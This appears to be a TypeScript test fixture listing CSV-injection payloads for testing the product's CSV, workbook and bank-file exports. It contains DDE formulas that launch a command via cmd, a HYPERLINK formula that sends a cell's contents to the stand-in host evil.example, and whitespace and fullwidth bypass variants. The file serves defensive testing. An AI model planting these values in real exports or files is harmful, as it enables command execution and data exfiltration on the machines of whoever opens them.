/**
 * Text that a spreadsheet would run as a formula (the OWASP "CSV injection" payloads and their variants), for the
 * tests of every CSV, workbook and bank file the product writes.
 */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n+1',
  '\uff1d1+1',
];

/** A name as a person could type it into the employee form: it passes every rule of the contract. */
export const FORMULA_NAME = "=cmd|' /C calc'!A0";
